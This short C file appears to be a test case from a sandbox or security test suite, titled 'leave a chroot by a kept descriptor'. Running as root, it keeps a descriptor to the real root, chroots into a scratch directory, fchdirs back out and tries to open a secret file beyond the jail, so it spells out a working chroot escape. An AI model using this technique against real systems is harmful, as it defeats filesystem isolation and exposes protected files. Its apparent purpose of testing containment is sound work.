// title: leave a chroot by a kept descriptor
// as: root
// event: name/read kernel
#include "attack.h"
static void attack(void) {
  int top = NEED(open("/", O_PATH | O_DIRECTORY));
  STEP(chroot(in_scratch("granted")));
  STEP(fchdir(top));
  char relative[4200];
  snprintf(relative, sizeof relative, ".%s", in_scratch("secret/file"));
  TRY(open(relative, O_RDONLY));
}
